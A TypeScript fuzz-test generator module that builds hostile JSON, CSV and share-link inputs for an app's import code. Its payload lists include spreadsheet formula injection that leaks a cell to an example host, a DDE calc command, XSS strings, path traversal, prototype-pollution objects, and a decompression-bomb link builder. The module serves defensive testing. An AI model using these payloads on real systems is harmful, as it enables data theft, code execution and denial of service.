import fc from 'fast-check';
import { constants, deflateRawSync } from 'node:zlib';

/**
 * Generators of hostile input for the import fuzz tests. Documents are mutated as JSON text, so a
 * hostile value can be anything a file may hold: `-0`, `1e400`, a 100,000-deep array, an own
 * `__proto__` key, a lone surrogate, or text that is not JSON at all.
 */

/** The seed every fuzz run starts from; FUZZ_SEED=n replays another. fast-check prints it on failure. */
export const FUZZ_SEED = Number(process.env.FUZZ_SEED ?? 20_260_909);

export const DEEP = 100_000;
const deepArray = '['.repeat(DEEP) + ']'.repeat(DEEP);
const deepObject = '{"a":'.repeat(DEEP) + '1' + '}'.repeat(DEEP);
const hugeString = JSON.stringify('x'.repeat(300_000));
const hugeArray = '[' + '0,'.repeat(200_000) + '0]';
const wideObject = '{' + Array.from({ length: 20_000 }, (_, i) => `"k${i}":${i}`).join(',') + '}';

/** Text that appears in hostile strings: spreadsheet formulas, markup, terminal escapes, unicode oddities. */
export const HOSTILE_TEXT = [
  '',
  ' ',
  '=HYPERLINK("http://x.example/?"&A2,"Click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '\u001b[31mred\u001b[0m\u001b]0;title\u0007',
  'line\nbreak\r\nand\rCR',
  'tab\tcell',
  '\u0000NUL',
  '\uFEFFBOM',
  '\u202Eevil\u202C',
  '\u2066isolate\u2069',
  'lone \uD800 high',
  'lone \uDC00 low',
  '😀 emoji 🏳️‍🌈',
  'ǅ Ω ﬀ İ',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'NaN',
  'Infinity',
  '-0',
  '1e308',
  'undefined',
  '[object Object]',
  '${process.exit(1)}',
  '../../../../etc/passwd',
  '%00%0d%0a',
  'a'.repeat(81),
  'b'.repeat(2001),
];

/** Keys that must never reach a prototype, plus keys with odd characters. */
export const HOSTILE_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '', 'a\nb: forged line', '\u202Eyek', '\u001b[2J', 'k'.repeat(500), '\uD800'];

const NUMBER_TEXT = ['0', '-0', '-1', '-8', '0.5', '-0.5', '1e308', '-1e308', '1e400', '-1e400', '1e-400', '5e-324', '9007199254740993', '4194305', '123456789012345678901234567890', '1.0000000000000002'];

/** Raw JSON text of one hostile value. */
export const hostileValueText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...NUMBER_TEXT) },
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_TEXT).map((s) => JSON.stringify(s)) },
  { weight: 2, arbitrary: fc.constantFrom('null', 'true', 'false', '[]', '{}', '[null]', '[[]]', '{"__proto__":{"polluted":1}}', '{"constructor":{"prototype":{"polluted":1}}}') },
  { weight: 1, arbitrary: fc.constantFrom(deepArray, deepObject, hugeString, hugeArray, wideObject) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }).map((s) => JSON.stringify(s)) },
  { weight: 2, arbitrary: fc.double().map((d) => (Number.isFinite(d) ? String(d) : JSON.stringify(String(d)))) },
  { weight: 1, arbitrary: fc.integer().map(String) },
);

type Key = string | number;
type Path = Key[];

/** Every path in a JSON value: containers and leaves, the root excluded. */
export function allPaths(value: unknown, prefix: Path = [], out: Path[] = []): Path[] {
  if (Array.isArray(value)) value.forEach((v, i) => { out.push([...prefix, i]); allPaths(v, [...prefix, i], out); });
  else if (value !== null && typeof value === 'object')
    for (const [k, v] of Object.entries(value)) { out.push([...prefix, k]); allPaths(v, [...prefix, k], out); }
  return out;
}

const objectPaths = (value: unknown): Path[] =>
  [[], ...allPaths(value)].filter((p) => {
    const v = at(value, p);
    return v !== null && typeof v === 'object' && !Array.isArray(v);
  });

function at(value: unknown, path: Path): unknown {
  let v = value;
  for (const k of path) {
    if (v === null || typeof v !== 'object') return undefined;
    v = (v as Record<Key, unknown>)[k];
  }
  return v;
}

/** Earlier edits may have replaced a path's parent; later edits at that path then do nothing. */
const parentIsContainer = (doc: unknown, path: Path) => {
  const parent = at(doc, path.slice(0, -1));
  return parent !== null && typeof parent === 'object';
};

const hole = (i: number) => `@@hole${i}@@`;

/** One edit of a document: the value it leaves plus raw text to splice in for each hole. */
type Edit = (doc: unknown, holes: string[]) => unknown;

function setAt(doc: unknown, path: Path, v: unknown): unknown {
  if (path.length === 0) return v;
  const [k, ...rest] = path;
  const copy = (Array.isArray(doc) ? [...doc] : { ...(doc as object) }) as Record<Key, unknown>;
  copy[k] = setAt((doc as Record<Key, unknown>)[k], rest, v);
  return copy;
}

function withKey(doc: unknown, path: Path, key: string, v: unknown): unknown {
  const target = { ...(at(doc, path) as object) };
  // defineProperty, so `__proto__` becomes an own key as JSON.parse makes it, not a prototype change.
  Object.defineProperty(target, key, { value: v, enumerable: true, writable: true, configurable: true });
  return setAt(doc, path, target);
}

function withoutKey(doc: unknown, path: Path): unknown {
  const parent = path.slice(0, -1);
  const key = path[path.length - 1];
  const container = at(doc, parent);
  if (Array.isArray(container)) return setAt(doc, parent, container.filter((_, i) => i !== key));
  const copy = { ...(container as Record<Key, unknown>) };
  delete copy[key];
  return setAt(doc, parent, copy);
}

/** Structural edits of a valid document at paths drawn from it. */
function editOf(valid: unknown): fc.Arbitrary<Edit> {
  const paths = allPaths(valid);
  const objects = objectPaths(valid);
  const arrays = paths.filter((p) => Array.isArray(at(valid, p)) && (at(valid, p) as unknown[]).length > 0);
  const replace = fc.tuple(fc.constantFrom(...paths), hostileValueText).map(([path, text]): Edit => (doc, holes) => {
    holes.push(text);
    return parentIsContainer(doc, path) ? setAt(doc, path, hole(holes.length - 1)) : doc;
  });
  const addKey = fc.tuple(fc.constantFrom(...objects), fc.constantFrom(...HOSTILE_KEYS), hostileValueText).map(([path, key, text]): Edit => (doc, holes) => {
    holes.push(text);
    const target = at(doc, path);
    return target && typeof target === 'object' && !Array.isArray(target) ? withKey(doc, path, key, hole(holes.length - 1)) : doc;
  });
  const remove = fc.constantFrom(...paths).map((path): Edit => (doc) => (parentIsContainer(doc, path) ? withoutKey(doc, path) : doc));
  // Lists at and past their limits: copies of the first item (duplicate ids, too many items).
  const grow = fc.tuple(fc.constantFrom(...(arrays.length ? arrays : [[]])), fc.constantFrom(2, 201, 501, 2001, 20_001)).map(([path, n]): Edit => (doc) => {
    const list = at(doc, path);
    return Array.isArray(list) && list.length > 0 ? setAt(doc, path, Array.from({ length: n }, () => list[0])) : doc;
  });
  return fc.oneof({ weight: 6, arbitrary: replace }, { weight: 2, arbitrary: addKey }, { weight: 2, arbitrary: remove }, { weight: 1, arbitrary: grow });
}

/** Damage done to the text itself. */
const textDamage: fc.Arbitrary<(text: string) => string> = fc.oneof(
  fc.double({ min: 0, max: 1, noNaN: true }).map((f) => (t: string) => t.slice(0, Math.floor(t.length * f))),
  fc.tuple(fc.double({ min: 0, max: 1, noNaN: true }), fc.string({ unit: 'binary', minLength: 1, maxLength: 8 })).map(([f, junk]) => (t: string) => {
    const i = Math.floor(t.length * f);
    return t.slice(0, i) + junk + t.slice(i);
  }),
  fc.tuple(fc.double({ min: 0, max: 1, noNaN: true }), fc.integer({ min: 1, max: 40 })).map(([f, n]) => (t: string) => {
    const i = Math.floor(t.length * f);
    return t.slice(0, i) + t.slice(i + n);
  }),
  fc.constantFrom(
    (t: string) => '\uFEFF' + t,
    (t: string) => t + ' trailing',
    (t: string) => t + t,
    (t: string) => `[${t}]`,
    (t: string) => JSON.stringify(t),
    (t: string) => t.replace(/"/g, "'"),
    (t: string) => t.replace(/,/g, ',,'),
    (t: string) => t.replace(/:/g, '\u0000:'),
    () => '',
    () => 'null',
    () => '\uFEFF',
    () => deepArray,
    () => deepObject,
    () => hugeString,
  ),
);

/**
 * Hostile JSON text derived from a valid document: 1 to 3 structural edits (wrong types at any
 * path, hostile keys, missing fields, lists over their limits), sometimes followed by damage to
 * the text (truncation, junk, BOM, ...).
 */
export function hostileDocumentText(valid: unknown): fc.Arbitrary<string> {
  return fc
    .tuple(fc.array(editOf(valid), { minLength: 1, maxLength: 3 }), fc.option(textDamage, { freq: 4, nil: undefined }))
    .map(([edits, damage]) => {
      const holes: string[] = [];
      const doc = edits.reduce((d, edit) => edit(d, holes), valid);
      let text = JSON.stringify(doc);
      holes.forEach((raw, i) => { text = text.replace(JSON.stringify(hole(i)), () => raw); });
      return damage ? damage(text) : text;
    });
}

/** A price-list CSV: rows of cells, edited and then joined with chosen line ends. */
export function hostileCsvText(validCsv: string): fc.Arbitrary<string> {
  const rows = validCsv.trimEnd().split('\n').map((line) => parseSimpleCsvLine(line));
  const cellText = fc.oneof(
    { weight: 5, arbitrary: fc.constantFrom(...HOSTILE_TEXT) },
    { weight: 3, arbitrary: fc.constantFrom(...NUMBER_TEXT, '46,500', '$1,000', '1 000', '0x10', '1_000', '   7   ', '∞', 'unlimited') },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
    { weight: 1, arbitrary: fc.constantFrom('"unbalanced', 'a"b', '"a""b"', '""', '"multi\nline"') },
  );
  type RowsEdit = (rs: string[][]) => string[][];
  const cellEdit = fc.tuple(fc.nat(), fc.nat(), cellText).map(([r, c, v]): RowsEdit => (rs) => {
    const row = r % rs.length;
    return rs.map((cells, i) => (i === row ? cells.map((x, j) => (j === c % cells.length ? v : x)) : cells));
  });
  const headerEdit = fc.tuple(fc.nat(), fc.constantFrom('__proto__', 'constructor', 'toString', 'valueOf', 'price', 'id', 'Price', ' PRICE ', 'price\u0000', '\uFEFFid', '=1+1', '', 'colour')).map(
    ([c, h]): RowsEdit => (rs) => [rs[0].map((x, j) => (j === c % rs[0].length ? h : x)), ...rs.slice(1)],
  );
  const columnCount = fc.tuple(fc.nat(), fc.integer({ min: -3, max: 5 })).map(([r, d]): RowsEdit => (rs) => {
    const row = r % rs.length;
    return rs.map((cells, i) => (i !== row ? cells : d < 0 ? cells.slice(0, Math.max(0, cells.length + d)) : [...cells, ...Array.from({ length: d }, () => 'extra')]));
  });
  const duplicateRows = fc.constantFrom(2, 100, 2_000).map((n): RowsEdit => (rs) => [rs[0], ...Array.from({ length: n }, (_, i) => rs[1 + (i % (rs.length - 1))])]);
  const edits = fc.array(fc.oneof({ weight: 5, arbitrary: cellEdit }, { weight: 2, arbitrary: headerEdit }, { weight: 2, arbitrary: columnCount }, { weight: 1, arbitrary: duplicateRows }), { minLength: 1, maxLength: 4 });
  const lineEnd = fc.constantFrom('\n', '\r\n', '\r', '\n\n', '\r\r\n');
  // Cells are written raw, not quoted, so quotes and separators inside them break the structure as a hand-edited file would.
  const quoteSome = fc.boolean();
  return fc.tuple(edits, lineEnd, quoteSome, fc.option(textDamage, { freq: 5, nil: undefined }), fc.boolean()).map(([es, eol, quote, damage, bom]) => {
    const edited = es.reduce((rs, e) => e(rs), rows);
    const text = (bom ? '\uFEFF' : '') + edited.map((cells) => cells.map((c) => (quote ? `"${c.replace(/"/g, '""')}"` : c)).join(',')).join(eol) + eol;
    return damage ? damage(text) : text;
  });
}

/** Splits one line of a CSV this project wrote (quoted cells with doubled quotes, no newlines in cells). */
function parseSimpleCsvLine(line: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i];
    if (quoted) {
      if (ch === '"' && line[i + 1] === '"') { cell += '"'; i++; }
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') { cells.push(cell); cell = ''; }
    else cell += ch;
  }
  cells.push(cell);
  return cells;
}

async function deflateRaw(bytes: Uint8Array): Promise<Uint8Array> {
  const body = new Blob([bytes as BlobPart]).stream().pipeThrough(new CompressionStream('deflate-raw'));
  return new Uint8Array(await new Response(body).arrayBuffer());
}

export function base64Url(bytes: Uint8Array): string {
  return Buffer.from(bytes).toString('base64').replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
}

/** A share-link hash (`#s=...`) for any text, compressed the way the app encodes scenarios. */
export async function linkForText(text: string): Promise<string> {
  return `#s=${base64Url(await deflateRaw(new TextEncoder().encode(text)))}`;
}

/**
 * A share link that inflates to `mb` MB of zeros from about 1 KB of link per MB: 1 MB of zeros
 * deflated with a full flush (so each piece stands alone) repeated `mb` times, then the final
 * empty block. `finished: false` leaves that block out, so a reader that inflates it all finds it cut short.
 */
export function deflateBombLink(mb: number, finished = true): string {
  const piece = deflateRawSync(Buffer.alloc(1024 * 1024), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const end = deflateRawSync(Buffer.alloc(0));
  return `#s=${base64Url(Buffer.concat([...Array.from({ length: mb }, () => piece), ...(finished ? [end] : [])]))}`;
}

/**
 * Recipe for a hostile share link: a hostile scenario text packed correctly, or a packed valid
 * scenario whose hash is damaged (cut, bad base64, not deflate, doubled parameters).
 */
export type LinkRecipe = { text: string; damage?: (hash: string) => string };

export function hostileLinkRecipe(validScenario: unknown): fc.Arbitrary<LinkRecipe> {
  const validText = JSON.stringify(validScenario);
  const hashDamage: fc.Arbitrary<(hash: string) => string> = fc.oneof(
    fc.double({ min: 0, max: 1, noNaN: true }).map((f) => (h: string) => h.slice(0, 3 + Math.floor((h.length - 3) * f))),
    fc.tuple(fc.double({ min: 0, max: 1, noNaN: true }), fc.constantFrom('!', '%', '%zz', '=', ' ', '+', '/', '\u00e9', '\uD800', '&s=', '#', '\n', 'A', 'AA', '====')).map(([f, junk]) => (h: string) => {
      const i = 3 + Math.floor((h.length - 3) * f);
      return h.slice(0, i) + junk + h.slice(i);
    }),
    fc.uint8Array({ minLength: 1, maxLength: 200 }).map((bytes) => () => `#s=${base64Url(bytes)}`),
    fc.constantFrom(
      () => '#s=',
      () => '#s',
      () => '#s=%',
      () => '#s=====',
      (h: string) => `${h}&s=${h.slice(3)}`,
      (h: string) => `#x=1&${h.slice(1)}`,
      (h: string) => h.replace(/-/g, '+').replace(/_/g, '/'),
      (h: string) => `#s=${Buffer.from(h.slice(3)).toString('base64')}`,
      (h: string) => `#s=${base64Url(new TextEncoder().encode(validText))}`, // not compressed at all
      (h: string) => h.toUpperCase(),
    ),
  );
  return fc.oneof(
    { weight: 3, arbitrary: hostileDocumentText(validScenario).map((text): LinkRecipe => ({ text })) },
    { weight: 2, arbitrary: hashDamage.map((damage): LinkRecipe => ({ text: validText, damage })) },
  );
}
